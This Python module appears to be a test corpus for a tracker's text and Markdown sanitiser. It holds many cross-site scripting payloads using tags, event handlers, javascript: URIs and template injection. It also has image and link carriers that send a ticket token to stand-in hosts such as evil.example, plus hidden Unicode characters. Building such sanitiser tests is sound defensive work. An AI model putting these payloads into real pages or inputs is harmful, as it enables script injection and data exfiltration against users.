"""Words that would run as script wherever they were not taken as words: titles, names, Markdown."""

RUN = "window.__xss=1"
_TAGS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<img src=x onerror={}>", "<img src=x onerror='{}'>", '"><img src=x onerror={}>', "'><img src=x onerror={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<body onload={}>", "<iframe src='javascript:{}'></iframe>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data='javascript:{}'></object>", "<embed src='javascript:{}'>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>", "<details open ontoggle={}>x</details>", "<video src=x onerror={}></video>", "<audio src=x onerror={}></audio>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}></select>", "<textarea autofocus onfocus={}></textarea>", "<marquee onstart={}>x</marquee>", "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>", "<a href='javascript:{}'>x</a>", "<a href=' javascript:{}'>x</a>", "<a href='jav&#x09;ascript:{}'>x</a>", "<a href='&#106;avascript:{}'>x</a>",
    "<link rel=stylesheet href='javascript:{}'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='javascript:{}//'>", "<style>@import 'javascript:{}';</style>", "<div style='background:url(javascript:{})'>x</div>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>", "<title></title><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</script><script>{}</script>", "<!--><script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<p onclick={}>x</p>", "<div hx-get=/ hx-trigger=load hx-on:load='{}'>x</div>",
    "<div hx-on::load='{}'>x</div>", "<div data-hx-on:click='{}'>x</div>", "<flow-board onfocus={} tabindex=1>x</flow-board>", "<x contenteditable onblur={}>x</x>", "<b onmouseover={}>x</b>",
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x]( javascript:{})", "[x](&#106;avascript:{})", "[x](java\tscript:{})", "[x](javascript&colon;{})", "[x](data:text/html,<script>{}</script>)", "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg== '{}')",
    "[x](vbscript:{})", "[x](file:///{})", "![x](javascript:{})", "![x](x 'a\" onerror=\"{}')", "![x\" onerror=\"{}](x)", "[x](x 'a\" onclick=\"{}')", "[x](<javascript:{}>)",
    "<javascript:{}>", "[a]: javascript:{}\n\n[a]", "[a]: <javascript:{}>\n\n[a][a]", "`<script>{}</script>`", "```\n<script>{}</script>\n```", "```<img src=x onerror={}>\ncode\n```", "~~~\" onmouseover=\"{}\ncode\n~~~",
    "    <script>{}</script>", "> <script>{}</script>", "- <img src=x onerror={}>", "# <svg onload={}>", "| a |\n|---|\n| <img src=x onerror={}> |", "**<img src=x onerror={}>**", "~~<svg onload={}>~~",
    "<div>\n\n<script>{}</script>\n\n</div>", "[<img src=x onerror={}>](http://example.com)", "http://example.com/\"onmouseover={}", "http://example.com/<script>{}</script>", "<http://example.com/\"onclick={}>",
    "FLOW-1<script>{}</script>", "[FLOW-1](javascript:{})", "@alice<img src=x onerror={}>", "#bug\"><script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
]  # fmt: skip
_TEMPLATES = [
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{% {} %}}", "{{{{ '<script>{}</script>'|safe }}}}", "javascript:{}", "\u2028<script>{}</script>", "\ufeff<svg onload={}>",
    "\u202e<img src=x onerror={}>", "';{};//", '";{};//', "\\';{};//", "*/{}/*", "\u003cscript\u003e{}\u003c/script\u003e",
]  # fmt: skip
PAYLOADS = [one.format(RUN) for one in (*_TAGS, *_MARKDOWN, *_TEMPLATES)]

# what would carry words away, by being shown or by being looked at: pictures, links, references, hidden characters
_AWAY = ("https://evil.example/?q={}", "//evil.example/{}", "http://127.0.0.2:9/{}", "https://evil.example/{}.svg#x")
_CARRIERS = [
    "![x]({})", "![]({} 'x')", "![x][a]\n\n[a]: {}", "[![x]({})](https://evil.example/)", "<img src='{}'>", "<img srcset='{} 2x'>", "<picture><source srcset='{}'><img></picture>",
    "<link rel=prefetch href='{}'>", "<link rel=stylesheet href='{}'>", "<iframe src='{}'></iframe>", "<object data='{}'></object>", "<video src='{}' poster='{}' autoplay></video>",
    "<div style='background:url({})'>x</div>", "<style>@import '{}';</style>", "<svg><image href='{}'/><use href='{}'/></svg>", "<a href='{}' ping='{}'>x</a>", "<meta http-equiv=refresh content='0;url={}'>", "[open this]({})",
]  # fmt: skip
LEAKS = [one.replace("{}", away.format("FLOW-1")) for one in _CARRIERS for away in _AWAY]
HIDDEN = "".join(map(chr, (0x200B, 0x2060, 0xFE00, 0x202E, 0xFEFF, *(0xE0000 + ord(mark) for mark in "leak"))))
